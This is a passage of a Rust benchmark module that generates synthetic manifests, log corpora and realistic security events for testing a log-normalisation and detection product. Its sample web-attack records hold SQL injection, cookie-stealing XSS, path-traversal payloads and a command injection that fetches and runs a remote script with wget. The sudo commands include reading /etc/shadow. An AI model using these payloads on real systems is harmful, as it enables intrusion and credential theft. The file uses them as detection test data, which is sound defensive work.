//! Inputs for Shieldwall's benchmarks: generated deployment manifests of any size, log corpora,
//! user parser sets, and realistic security events for the event store ([`EventGenerator`]);
//! and our Sigma engine beside rsigma's ([`sigma`]).

pub mod sigma;

use std::fmt::Write as _;

use shieldwall_catalog::Catalog;

/// A manifest with `workloads` workloads cycling through the service models, classifications and
/// exposures, two third parties with transfers, an assignment for every other capability (half of
/// them attested, half module-evidenced, some scoped to a subset of workloads) and a few control
/// statements: a realistic mix for the planner's every branch.
pub fn manifest(catalog: &Catalog, workloads: usize) -> String {
    let mut m = String::from(
        "deployment = \"hybrid\"\n\n[organisation]\nname = \"Generated\"\ntenant = \"bench\"\n",
    );
    let models = ["iaas", "paas", "saas"];
    let classes = ["public", "internal", "confidential", "restricted"];
    for i in 0..workloads {
        let _ = write!(
            m,
            "\n[[workload]]\nname = \"w{i}\"\nservice_model = \"{}\"\nprovider = \"provider-{}\"\ndata_classification = \"{}\"\ninternet_facing = {}\n",
            models.get(i % 3).unwrap_or(&"iaas"),
            i % 4,
            classes.get(i % 4).unwrap_or(&"public"),
            i % 2 == 0
        );
    }
    m.push_str("\n[[third_party]]\nname = \"mssp\"\n\n[[third_party]]\nname = \"auditor\"\n");
    m.push_str("\n[[transfer]]\nto = \"mssp\"\nitems = [\"system-vulnerability-scanning\", \"database-audit\"]\n");
    m.push_str("\n[[transfer]]\nto = \"auditor\"\nitems = [\"R-PROVIDER-ASSURANCE\"]\n");
    for (i, cap) in catalog
        .capabilities()
        .iter()
        .enumerate()
        .filter(|(i, _)| i % 2 == 0)
    {
        let _ = write!(
            m,
            "\n[[assignment]]\ncapability = \"{}\"\nsupplier = \"customer\"\nproduct = \"product {i}\"\n",
            cap.id
        );
        if i % 4 == 0 {
            let scope: Vec<String> = (0..workloads)
                .step_by(3)
                .map(|w| format!("\"w{w}\""))
                .collect();
            let _ = writeln!(m, "workloads = [{}]", scope.join(", "));
        }
        match cap.modules.first() {
            Some(module) if i % 3 == 0 => {
                let _ = writeln!(m, "evidence = {{ module = \"{module}\" }}");
            }
            _ => m.push_str("[assignment.evidence]\nattested_by = \"owner\"\nattested_on = 2026-01-01\nexpires = 2027-01-01\n"),
        }
    }
    for id in ["GRC-01", "SEF-03", "BCR-09"] {
        let _ = write!(
            m,
            "\n[[control]]\nid = \"{id}\"\nattested_by = \"ciso\"\nattested_on = 2026-01-01\nexpires = 2027-01-01\n"
        );
    }
    m.push_str("\n[[control]]\nid = \"UEM-12\"\nnot_applicable = \"no mobile devices\"\n");
    m
}

/// A mixed log corpus of `lines` lines, as it would arrive over syslog, built from the real
/// sample lines under `samples` (the parser tests' `crates/parse/tests/samples`): every line that
/// carries a syslog header, is a JSON object, or is CEF/LEEF. Lines are cycled in a fixed order;
/// the RFC 3164 hostname is rewritten to one of `hosts` names, so that the corpus exercises as
/// many distinct senders as asked.
pub fn log_corpus(
    samples: &std::path::Path,
    lines: usize,
    hosts: usize,
) -> std::io::Result<Vec<String>> {
    let mut pool = Vec::new();
    let mut files = Vec::new();
    for sub in ["text", "structured"] {
        let dir = samples.join(sub);
        for entry in std::fs::read_dir(&dir)? {
            let path = entry?.path();
            if path.extension().is_some_and(|x| x == "log" || x == "jsonl") {
                files.push(path);
            }
        }
    }
    files.sort();
    for path in files {
        let text = std::fs::read_to_string(&path)?;
        for line in text.lines() {
            let usable = line.starts_with('<')
                || line.starts_with('{')
                || line.contains("CEF:")
                || line.contains("LEEF:");
            if usable && !line.trim().is_empty() {
                pool.push(line.to_owned());
            }
        }
    }
    if pool.is_empty() {
        return Err(std::io::Error::other(format!(
            "no usable sample lines under {}",
            samples.display()
        )));
    }
    let hosts = hosts.max(1);
    Ok((0..lines)
        .map(|i| {
            let line = pool.get(i % pool.len()).map_or("", String::as_str);
            rename_host(line, &format!("host-{}", i % hosts))
        })
        .collect())
}

/// Replaces the hostname of an RFC 3164 line (`<PRI>Mmm dd hh:mm:ss HOST ...`); other lines are
/// returned as they are.
fn rename_host(line: &str, host: &str) -> String {
    let Some(rest) = line.strip_prefix('<') else {
        return line.to_owned();
    };
    let Some(close) = rest.find('>') else {
        return line.to_owned();
    };
    let after_pri = rest.get(close + 1..).unwrap_or("");
    // "Mmm dd hh:mm:ss " is 16 bytes; a digit there means RFC 5424, left alone.
    if after_pri.len() < 16 || after_pri.starts_with(|c: char| c.is_ascii_digit()) {
        return line.to_owned();
    }
    let (stamp, tail) = after_pri.split_at(16);
    match tail.split_once(' ') {
        Some((_, content)) => format!(
            "<{}>{stamp}{host} {content}",
            rest.get(..close).unwrap_or("13")
        ),
        None => line.to_owned(),
    }
}

/// The regex shape of generated user parsers.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum PatternShape {
    /// Literals and class runs that never backtrack (`(?P<user>\S+) from`): matched without
    /// the regex engine.
    Simple,
    /// A `.+` before a literal that it could also match: needs the regex engine.
    Backtracking,
}

/// `count` user parsers, each for its own program `appN` with its own regex (the type's number
/// is part of the pattern), and `lines` lines that cycle through the types: the input of the
/// dispatch-scaling benchmark.
pub fn user_parser_set(count: usize, lines: usize, shape: PatternShape) -> (String, Vec<String>) {
    let user = match shape {
        PatternShape::Simple => "\\S+",
        PatternShape::Backtracking => ".+",
    };
    let mut yaml = String::from("parsers:\n");
    for i in 0..count {
        let _ = write!(
            yaml,
            "  - id: app{i}\n    match: {{ program: [app{i}] }}\n    method: {{ regex: '^LOGIN user=(?P<user>{user}) from (?P<ip>[0-9.]+) port {i} result=(?P<result>\\w+)' }}\n    class: authentication\n    activity_id: 1\n    map:\n      user.name: \"{{user}}\"\n      src_endpoint.ip: \"{{ip}}\"\n      status: {{ from: result, values: {{ ok: success, fail: failure }} }}\n"
        );
    }
    let corpus = (0..lines)
        .map(|i| {
            let kind = i % count.max(1);
            format!(
                "<38>Nov 29 10:00:00 host-{} app{kind}: LOGIN user=u{} from 10.0.{}.{} port {kind} result={}",
                i % 50,
                i % 1000,
                (i / 256) % 256,
                i % 256,
                if i % 3 == 0 { "fail" } else { "ok" }
            )
        })
        .collect();
    (yaml, corpus)
}

// ---------------------------------------------------------------------------------------------
// Generated events for the event store benchmarks (`gen-events`, `query-latency`).

/// A tiny deterministic pseudo-random generator (SplitMix64): benchmark inputs need
/// reproducibility, not quality, and this needs no dependency.
#[derive(Debug, Clone)]
pub struct SplitMix64 {
    state: u64,
}

impl SplitMix64 {
    /// A generator whose sequence is fixed by `seed`.
    pub fn new(seed: u64) -> SplitMix64 {
        SplitMix64 { state: seed }
    }

    /// The next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (0 when `n` is 0).
    pub fn below(&mut self, n: u64) -> u64 {
        ((u128::from(self.next_u64()) * u128::from(n)) >> 64) as u64
    }

    /// Uniform in `low..=high`.
    pub fn between(&mut self, low: u64, high: u64) -> u64 {
        low + self.below(high.saturating_sub(low) + 1)
    }

    /// Uniform in `[0, 1)`.
    pub fn unit(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }

    /// True with probability `p`.
    pub fn chance(&mut self, p: f64) -> bool {
        self.unit() < p
    }

    /// A uniformly chosen item (`default` for an empty slice).
    pub fn pick<'a>(&mut self, items: &[&'a str], default: &'a str) -> &'a str {
        items
            .get(self.below(items.len() as u64) as usize)
            .copied()
            .unwrap_or(default)
    }

    /// An item chosen by weight from `(weight, item)` pairs (the last one when the weights fall
    /// short of 1).
    pub fn weighted<T: Copy>(&mut self, choices: &[(f64, T)], default: T) -> T {
        let mut u = self.unit();
        for &(weight, item) in choices {
            if u < weight {
                return item;
            }
            u -= weight;
        }
        choices.last().map_or(default, |&(_, item)| item)
    }
}

/// A Zipf-like distribution over ranks `0..n`: rank `k` has weight `1 / (k + 1)^exponent`, so a
/// few values are very frequent and most are rare, as with source addresses and user names.
#[derive(Debug, Clone)]
pub struct Zipf {
    cdf: Vec<f64>,
}

impl Zipf {
    /// The distribution over `n` ranks (at least one).
    pub fn new(n: usize, exponent: f64) -> Zipf {
        let mut cdf = Vec::with_capacity(n.max(1));
        let mut total = 0.0;
        for k in 1..=n.max(1) {
            total += 1.0 / (k as f64).powf(exponent);
            cdf.push(total);
        }
        for c in &mut cdf {
            *c /= total;
        }
        Zipf { cdf }
    }

    /// A rank.
    pub fn sample(&self, rng: &mut SplitMix64) -> usize {
        let u = rng.unit();
        self.cdf
            .partition_point(|&c| c <= u)
            .min(self.cdf.len().saturating_sub(1))
    }

    /// The number of ranks.
    pub fn ranks(&self) -> usize {
        self.cdf.len()
    }

    /// The probability of `rank`.
    pub fn share(&self, rank: usize) -> f64 {
        let below = match rank.checked_sub(1) {
            Some(r) => self.cdf.get(r).copied().unwrap_or(1.0),
            None => 0.0,
        };
        self.cdf.get(rank).copied().unwrap_or(1.0) - below
    }
}

/// The first day of the generated events (a Monday, UTC).
pub const EVENTS_START: &str = "2026-11-16T00:00:00Z";
/// Generated events cover this many days from [`EVENTS_START`].
pub const EVENTS_DAYS: i64 = 7;
/// External source addresses (clients, scanners, brute-forcers), Zipf-distributed.
pub const SOURCE_IPS: usize = 5_000;
/// Internal user accounts, Zipf-distributed.
pub const USERS: usize = 3_000;
/// The Zipf exponent of addresses and users.
pub const ZIPF_EXPONENT: f64 = 1.05;

const PUBLIC_FIRST_OCTETS: [u8; 48] = [
    23, 31, 37, 41, 45, 46, 51, 62, 77, 78, 80, 81, 85, 89, 91, 93, 94, 95, 101, 103, 104, 109,
    112, 115, 118, 121, 123, 125, 134, 138, 141, 146, 151, 154, 159, 162, 167, 176, 178, 181, 185,
    188, 193, 195, 200, 203, 212, 218,
];

/// The external address of `rank` (rank 0 is the most frequent); the same for every run.
pub fn source_ip(rank: usize) -> String {
    let mut rng = SplitMix64::new(0x5eed_0000_0000_0000 ^ rank as u64);
    let first = PUBLIC_FIRST_OCTETS
        .get(rank % PUBLIC_FIRST_OCTETS.len())
        .copied()
        .unwrap_or(203);
    format!(
        "{first}.{}.{}.{}",
        rng.below(256),
        rng.below(256),
        rng.between(1, 254)
    )
}

/// An internal workstation or server address (`10.x.y.z`) by rank.
pub fn internal_ip(rank: usize) -> String {
    format!(
        "10.{}.{}.{}",
        10 + (rank / 250) % 200,
        (rank / 50) % 5,
        10 + rank % 50
    )
}

const SURNAMES: [&str; 120] = [
    "smith",
    "jones",
    "taylor",
    "brown",
    "williams",
    "wilson",
    "johnson",
    "davies",
    "robinson",
    "wright",
    "thompson",
    "evans",
    "walker",
    "white",
    "roberts",
    "green",
    "hall",
    "wood",
    "jackson",
    "clarke",
    "patel",
    "khan",
    "lewis",
    "james",
    "phillips",
    "mason",
    "mitchell",
    "rose",
    "davis",
    "rodriguez",
    "cox",
    "alexander",
    "garcia",
    "campbell",
    "morgan",
    "martin",
    "lee",
    "young",
    "king",
    "baker",
    "harris",
    "scott",
    "moore",
    "clark",
    "turner",
    "hill",
    "cooper",
    "ward",
    "morris",
    "watson",
    "price",
    "bennett",
    "gray",
    "cook",
    "kelly",
    "ali",
    "hughes",
    "edwards",
    "reid",
    "murphy",
    "shaw",
    "carter",
    "murray",
    "hussain",
    "parker",
    "bailey",
    "fox",
    "chen",
    "wang",
    "li",
    "zhang",
    "liu",
    "yang",
    "huang",
    "zhao",
    "wu",
    "zhou",
    "xu",
    "sun",
    "ma",
    "zhu",
    "hu",
    "guo",
    "he",
    "lin",
    "luo",
    "gao",
    "zheng",
    "liang",
    "xie",
    "tang",
    "han",
    "feng",
    "deng",
    "cao",
    "peng",
    "zeng",
    "xiao",
    "tian",
    "dong",
    "pan",
    "yuan",
    "cai",
    "jiang",
    "yu",
    "du",
    "ye",
    "cheng",
    "wei",
    "su",
    "lu",
    "ding",
    "ren",
    "shen",
    "yao",
    "lopez",
    "muller",
    "schmidt",
    "schneider",
    "fischer",
];

/// The internal account of `rank` (`jsmith`-like; unique for ranks below 3,120).
pub fn user_name(rank: usize) -> String {
    let initial = char::from(b'a' + (rank % 26) as u8);
    let surname = SURNAMES
        .get((rank / 26) % SURNAMES.len())
        .unwrap_or(&"user");
    format!("{initial}{surname}")
}

/// Account names that brute-force attempts try, most frequent first.
pub const ATTACK_USERS: [&str; 40] = [
    "root",
    "admin",
    "test",
    "user",
    "ubuntu",
    "oracle",
    "postgres",
    "guest",
    "git",
    "ftpuser",
    "pi",
    "support",
    "mysql",
    "administrator",
    "deploy",
    "jenkins",
    "hadoop",
    "ansible",
    "dev",
    "www-data",
    "nagios",
    "minecraft",
    "test1",
    "steam",
    "tomcat",
    "elastic",
    "user1",
    "backup",
    "centos",
    "ec2-user",
    "docker",
    "vagrant",
    "teamspeak",
    "redis",
    "zabbix",
    "sysadmin",
    "web",
    "student",
    "alex",
    "info",
];

/// Full-text words of the generated events with roughly how often they occur, from rare to
/// common (the query benchmark searches them).
pub const TEXT_TERMS: [&str; 8] = [
    "passwd",
    "union",
    "publickey",
    "sudo",
    "invalid",
    "failed",
    "block",
    "mozilla",
];

struct Hosts {
    names: Vec<String>,
    zipf: Zipf,
}

impl Hosts {
    fn new(prefix: &str, count: usize) -> Hosts {
        Hosts {
            names: (1..=count).map(|i| format!("{prefix}-{i:03}")).collect(),
            zipf: Zipf::new(count, 0.8),
        }
    }

    fn pick(&self, rng: &mut SplitMix64) -> &str {
        self.names
            .get(self.zipf.sample(rng))
            .map_or("host", String::as_str)
    }
}

/// Formatted forms of one second, reused while the second does not change.
#[derive(Default)]
struct Stamps {
    second: i64,
    syslog: String,
    nginx: String,
    ctime: String,
    nginx_error: String,
}

impl Stamps {
    fn update(&mut self, at: jiff::Timestamp) {
        let second = at.as_second();
        if second == self.second && !self.syslog.is_empty() {
            return;
        }
        self.second = second;
        self.syslog = at.strftime("%b %e %H:%M:%S").to_string();
        self.nginx = at.strftime("%d/%b/%Y:%H:%M:%S +0000").to_string();
        self.ctime = at.strftime("%a %b %e %H:%M:%S %Y").to_string();
        self.nginx_error = at.strftime("%Y/%m/%d %H:%M:%S").to_string();
    }
}

/// Generates realistic security events: syslog lines built from templates (nginx access and
/// error, netfilter/ufw, sshd, sudo, ModSecurity audit records of web attacks, ClamAV
/// detections, cron and systemd lines that no parser knows), each normalised by the built-in
/// parsers exactly as `shieldwall serve` would, so fields, raw text and vocabulary are those of
/// production events.
///
/// Distributions: event times in order over [`EVENTS_DAYS`] days from [`EVENTS_START`] with a
/// daily cycle (busy office hours, quiet nights, quieter weekends); source addresses Zipf over
/// [`SOURCE_IPS`], users Zipf over [`USERS`] (administrators, who log in and use sudo, over the
/// first 150), brute-force guesses Zipf over [`ATTACK_USERS`], 255 hosts in four roles; about
/// 45 % web access, 25 % firewall, 20 % sshd (mostly failed logins), 4.5 % sudo, 1.5 % web
/// attacks, 0.2 % malware, the rest unparsed or web server errors. Deterministic for a seed.
pub struct EventGenerator {
    rng: SplitMix64,
    normaliser: shieldwall_parse::Normaliser,
    total: u64,
    next: u64,
    start_ms: i64,
    hour_cdf: Vec<f64>,
    ips: Zipf,
    internal: Zipf,
    users: Zipf,
    admins: Zipf,
    attack_users: Zipf,
    paths: Zipf,
    agents: Zipf,
    ports: Zipf,
    web: Hosts,
    linux: Hosts,
    firewalls: Hosts,
    wafs: Hosts,
    stamps: Stamps,
    line: String,
    key: String,
    raw_bytes: u64,
}

const PATHS: [&str; 40] = [
    "/",
    "/index.html",
    "/api/v1/products",
    "/static/js/app.3f9a1c.js",
    "/static/css/main.8e21b4.css",
    "/api/v1/cart",
    "/favicon.ico",
    "/login",
    "/api/v1/orders",
    "/images/logo.png",
    "/api/v1/session",
    "/search",
    "/api/v1/products/{id}",
    "/images/products/{id}.jpg",
    "/account",
    "/checkout",
    "/api/v1/orders/{id}",
    "/robots.txt",
    "/api/v1/recommendations",
    "/help/faq",
    "/logout",
    "/api/v2/inventory/{id}",
    "/static/fonts/inter.woff2",
    "/sitemap.xml",
    "/admin/",
    "/wp-login.php",
    "/.env",
    "/api/v1/users/{id}",
    "/health",
    "/metrics",
    "/feed.rss",
    "/blog/{id}",
    "/downloads/report-{id}.pdf",
    "/xmlrpc.php",
    "/phpmyadmin/index.php",
    "/api/v1/payments",
    "/cgi-bin/luci",
    "/.git/config",
    "/server-status",
    "/actuator/health",
];

const AGENTS: [&str; 20] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.6045.163 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.61",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "curl/8.4.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "kube-probe/1.28",
    "Prometheus/2.48.0",
    "Mozilla/5.0 (iPad; CPU OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "okhttp/4.12.0",
    "Wget/1.21.4",
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
];

const PORTS: [u16; 20] = [
    22, 23, 445, 3389, 80, 443, 8080, 1433, 3306, 5900, 25, 53, 123, 161, 6379, 9200, 27017, 5432,
    21, 8443,
];

const COMMANDS: [&str; 12] = [
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/apt-get update",
    "/usr/bin/journalctl -u app --since today",
    "/usr/bin/docker ps",
    "/bin/cat /var/log/auth.log",
    "/usr/bin/tail -f /var/log/syslog",
    "/usr/bin/systemctl status postgresql",
    "/usr/sbin/iptables -L -n",
    "/usr/bin/vim /etc/nginx/nginx.conf",
    "/usr/bin/kubectl get pods -A",
    "/bin/su - postgres",
    "/bin/cat /etc/shadow",
];

/// One web attack: the request, the rule that fired and its tag.
struct Attack {
    uri: &'static str,
    message: &'static str,
    rule: &'static str,
    file: &'static str,
    data: &'static str,
    tag: &'static str,
}

const ATTACKS: [(f64, Attack); 6] = [
    (
        0.35,
        Attack {
            uri: "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
            message: "SQL Injection Attack Detected via libinjection",
            rule: "942100",
            file: "REQUEST-942-APPLICATION-ATTACK-SQLI.conf",
            data: "Matched Data: s&sos found within ARGS:id: 1' UNION SELECT username,password FROM users--",
            tag: "attack-sqli",
        },
    ),
    (
        0.2,
        Attack {
            uri: "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
            message: "XSS Attack Detected via libinjection",
            rule: "941100",
            file: "REQUEST-941-APPLICATION-ATTACK-XSS.conf",
            data: "Matched Data: XSS data found within ARGS:q: <script>alert(document.cookie)</script>",
            tag: "attack-xss",
        },
    ),
    (
        0.15,
        Attack {
            uri: "/download?file=../../../../etc/passwd",
            message: "Path Traversal Attack (/../)",
            rule: "930100",
            file: "REQUEST-930-APPLICATION-ATTACK-LFI.conf",
            data: "Matched Data: ../ found within ARGS:file: ../../../../etc/passwd",
            tag: "attack-lfi",
        },
    ),
    (
        0.1,
        Attack {
            uri: "/cgi-bin/status?cmd=;wget%20http://185.1.2.3/x.sh%20-O-|sh",
            message: "Remote Command Execution: Unix Command Injection",
            rule: "932100",
            file: "REQUEST-932-APPLICATION-ATTACK-RCE.conf",
            data: "Matched Data: ;wget found within ARGS:cmd: ;wget http://185.1.2.3/x.sh -O-|sh",
            tag: "attack-rce",
        },
    ),
    (
        0.15,
        Attack {
            uri: "/.env",
            message: "Found User-Agent associated with security scanner",
            rule: "913100",
            file: "REQUEST-913-SCANNER-DETECTION.conf",
            data: "Matched Data: nikto found within REQUEST_HEADERS:User-Agent: mozilla/5.00 (nikto/2.5.0)",
            tag: "attack-reputation-scanner",
        },
    ),
    (
        0.05,
        Attack {
            uri: "/index.php?%ADd+allow_url_include%3d1",
            message: "Invalid character in request (outside of very strict set)",
            rule: "920273",
            file: "REQUEST-920-PROTOCOL-ENFORCEMENT.conf",
            data: "Matched Data: %AD found within ARGS_NAMES",
            tag: "attack-protocol",
        },
    ),
];

#[derive(Clone, Copy)]
enum Template {
    NginxAccess,
    Firewall,
    Sshd,
    Sudo,
    WebAttack,
    Malware,
    NginxError,
    Other,
}

const TEMPLATES: [(f64, Template); 8] = [
    (0.45, Template::NginxAccess),
    (0.25, Template::Firewall),
    (0.20, Template::Sshd),
    (0.045, Template::Sudo),
    (0.015, Template::WebAttack),
    (0.002, Template::Malware),
    (0.01, Template::NginxError),
    (0.028, Template::Other),
];

impl EventGenerator {
    /// A generator of `total` events (their times spread over the whole span whatever the
    /// total), fixed by `seed`.
    pub fn new(total: u64, seed: u64) -> Result<EventGenerator, String> {
        let start = EVENTS_START
            .parse::<jiff::Timestamp>()
            .map_err(|e| e.to_string())?;
        EventGenerator::starting_at(total, seed, start)
    }

    /// The same, over the [`EVENTS_DAYS`] days from `start` instead of [`EVENTS_START`].
    pub fn starting_at(
        total: u64,
        seed: u64,
        start: jiff::Timestamp,
    ) -> Result<EventGenerator, String> {
        let registry = shieldwall_parse::parsers::builtin().map_err(|e| e.to_string())?;
        // Hourly weights: quiet nights, busy office hours, weekends at 60 %.
        let mut hour_cdf = Vec::with_capacity(EVENTS_DAYS as usize * 24);
        let mut total_weight = 0.0;
        for day in 0..EVENTS_DAYS {
            let weekend = if day % 7 >= 5 { 0.6 } else { 1.0 };
            for hour in 0..24 {
                let base = match hour {
                    0..=5 => 0.35,
                    6..=7 => 0.6,
                    8..=17 => 1.4,
                    18..=21 => 1.0,
                    _ => 0.6,
                };
                total_weight += base * weekend;
                hour_cdf.push(total_weight);
            }
        }
        for c in &mut hour_cdf {
            *c /= total_weight;
        }
        Ok(EventGenerator {
            rng: SplitMix64::new(seed),
            normaliser: shieldwall_parse::Normaliser::new(std::sync::Arc::new(registry)),
            total: total.max(1),
            next: 0,
            start_ms: start.as_millisecond(),
            hour_cdf,
            ips: Zipf::new(SOURCE_IPS, ZIPF_EXPONENT),
            internal: Zipf::new(500, 0.9),
            users: Zipf::new(USERS, ZIPF_EXPONENT),
            admins: Zipf::new(150, 0.9),
            attack_users: Zipf::new(ATTACK_USERS.len(), 1.2),
            paths: Zipf::new(PATHS.len(), 1.0),
            agents: Zipf::new(AGENTS.len(), 1.1),
            ports: Zipf::new(PORTS.len(), 0.9),
            web: Hosts::new("web", 80),
            linux: Hosts::new("app", 150),
            firewalls: Hosts::new("fw", 15),
            wafs: Hosts::new("waf", 10),
            stamps: Stamps::default(),
            line: String::with_capacity(2048),
            key: String::new(),
            raw_bytes: 0,
        })
    }

    /// Bytes of raw text generated so far, one newline per event included: what the same
    /// events would take as a plain syslog file.
    pub fn raw_bytes(&self) -> u64 {
        self.raw_bytes
    }

    /// The event time of event `i`: in order, spread by the hourly weights.
    fn time_of(&mut self, i: u64) -> jiff::Timestamp {
        let u = (i as f64 + 0.5) / self.total as f64;
        let hour = self
            .hour_cdf
            .partition_point(|&c| c <= u)
            .min(self.hour_cdf.len().saturating_sub(1));
        let low = match hour.checked_sub(1) {
            Some(h) => self.hour_cdf.get(h).copied().unwrap_or(0.0),
            None => 0.0,
        };
        let high = self.hour_cdf.get(hour).copied().unwrap_or(1.0);
        let within = if high > low {
            ((u - low) / (high - low)).clamp(0.0, 0.999_999)
        } else {
            0.0
        };
        let ms = self.start_ms + hour as i64 * 3_600_000 + (within * 3_600_000.0) as i64;
        jiff::Timestamp::from_millisecond(ms).unwrap_or(jiff::Timestamp::UNIX_EPOCH)
    }

    /// Writes the syslog line of one event into `self.line`.
    fn write_line(&mut self, at: jiff::Timestamp) {
        use std::fmt::Write as _;
        self.stamps.update(at);
        self.line.clear();
        let template = self.rng.weighted(&TEMPLATES, Template::Other);
        let rng = &mut self.rng;
        let pid = rng.between(1000, 65000);
        match template {
            Template::NginxAccess => {
                let ip = if rng.chance(0.85) {
                    source_ip(self.ips.sample(rng))
                } else {
                    internal_ip(self.internal.sample(rng))
                };
                let host = self.web.pick(rng);
                let auth = if rng.chance(0.05) {
                    user_name(self.users.sample(rng))
                } else {
                    "-".to_owned()
                };
                let method = rng.weighted(
                    &[
                        (0.82, "GET"),
                        (0.13, "POST"),
                        (0.02, "HEAD"),
                        (0.02, "PUT"),
                        (0.01, "DELETE"),
                    ],
                    "GET",
                );
                let path = PATHS
                    .get(self.paths.sample(rng))
                    .unwrap_or(&"/")
                    .replace("{id}", &rng.between(1, 99_999).to_string());
                let query = if rng.chance(0.2) {
                    format!("?page={}&sort=price", rng.between(1, 40))
                } else {
                    String::new()
                };
                let status = rng.weighted(
                    &[
                        (0.72, 200u16),
                        (0.10, 304),
                        (0.04, 302),
                        (0.08, 404),
                        (0.02, 403),
                        (0.01, 401),
                        (0.015, 500),
                        (0.01, 502),
                        (0.005, 503),
                    ],
                    200,
                );
                let bytes = match status {
                    200 => {
                        let log = rng.unit() * 12.0 + 6.0;
                        log.exp2() as u64
                    }
                    304 => 0,
                    _ => rng.between(150, 600),
                };
                let referrer = if rng.chance(0.4) {
                    "-".to_owned()
                } else {
                    format!("https://{host}.shop.example.com/")
                };
                let agent = AGENTS.get(self.agents.sample(rng)).unwrap_or(&"-");
                let _ = write!(
                    self.line,
                    "<190>{} {host} nginx: {ip} - {auth} [{}] \"{method} {path}{query} HTTP/1.1\" {status} {bytes} \"{referrer}\" \"{agent}\"",
                    self.stamps.syslog, self.stamps.nginx
                );
            }
            Template::Firewall => {
                let ip = source_ip(self.ips.sample(rng));
                let dst = internal_ip(rng.below(2000) as usize);
                let host = self.firewalls.pick(rng);
                let action =
                    rng.weighted(&[(0.75, "BLOCK"), (0.2, "ALLOW"), (0.05, "AUDIT")], "BLOCK");
                let dport = if rng.chance(0.85) {
                    PORTS.get(self.ports.sample(rng)).copied().unwrap_or(22)
                } else {
                    rng.between(1024, 65535) as u16
                };
                let uptime =
                    (at.as_millisecond() - self.start_ms + 86_400_000) as f64 / 1000.0 + rng.unit();
                let (proto, tail) = if rng.chance(0.8) {
                    (
                        "TCP",
                        format!(
                            "WINDOW={} RES=0x00 SYN URGP=0 ",
                            rng.weighted(&[(0.5, 65535), (0.3, 29200), (0.2, 1024)], 1024)
                        ),
                    )
                } else {
                    ("UDP", format!("LEN={} ", rng.between(20, 512)))
                };
                let _ = write!(
                    self.line,
                    "<4>{} {host} kernel: [{uptime:.6}] [UFW {action}] IN=eth0 OUT= MAC=52:54:00:{:02x}:{:02x}:{:02x}:fe:ff:ff:ff:ff:ff:08:00 SRC={ip} DST={dst} LEN={} TOS=0x00 PREC=0x00 TTL={} ID={} {}PROTO={proto} SPT={} DPT={dport} {tail}",
                    self.stamps.syslog,
                    rng.below(256),
                    rng.below(256),
                    rng.below(256),
                    rng.between(40, 1500),
                    rng.between(32, 128),
                    rng.below(65536),
                    if rng.chance(0.6) { "DF " } else { "" },
                    rng.between(1024, 65535),
                );
            }
            Template::Sshd => {
                let host = self.linux.pick(rng);
                let port = rng.between(1024, 65535);
                let stamp = &self.stamps.syslog;
                let attacker = |rng: &mut SplitMix64, ips: &Zipf| source_ip(ips.sample(rng));
                let guess = ATTACK_USERS
                    .get(self.attack_users.sample(rng))
                    .copied()
                    .unwrap_or("root");
                // Accounts that exist on the hosts: brute force against them fails with a
                // plain "Failed password", against the others with "invalid user".
                let valid = matches!(guess, "root" | "ubuntu" | "postgres" | "git");
                let invalid = if valid { "" } else { "invalid user " };
                let kind = rng.weighted(
                    &[
                        (0.50, 0u8),
                        (0.15, 1),
                        (0.12, 2),
                        (0.03, 3),
                        (0.10, 4),
                        (0.10, 5),
                    ],
                    0,
                );
                let _ = match kind {
                    0 => {
                        let ip = attacker(rng, &self.ips);
                        write!(
                            self.line,
                            "<38>{stamp} {host} sshd[{pid}]: Failed password for {invalid}{guess} from {ip} port {port} ssh2"
                        )
                    }
                    1 if !valid => {
                        let ip = attacker(rng, &self.ips);
                        write!(
                            self.line,
                            "<38>{stamp} {host} sshd[{pid}]: Invalid user {guess} from {ip} port {port}"
                        )
                    }
                    1 | 4 => {
                        let ip = attacker(rng, &self.ips);
                        write!(
                            self.line,
                            "<38>{stamp} {host} sshd[{pid}]: Connection closed by {} {guess} {ip} port {port} [preauth]",
                            if valid {
                                "authenticating user"
                            } else {
                                "invalid user"
                            }
                        )
                    }
                    2 => {
                        let user = user_name(self.admins.sample(rng));
                        let ip = internal_ip(self.internal.sample(rng));
                        let mut key = String::with_capacity(43);
                        for _ in 0..43 {
                            let c = rng.below(62) as u8;
                            key.push(char::from(match c {
                                0..=25 => b'A' + c,
                                26..=51 => b'a' + c - 26,
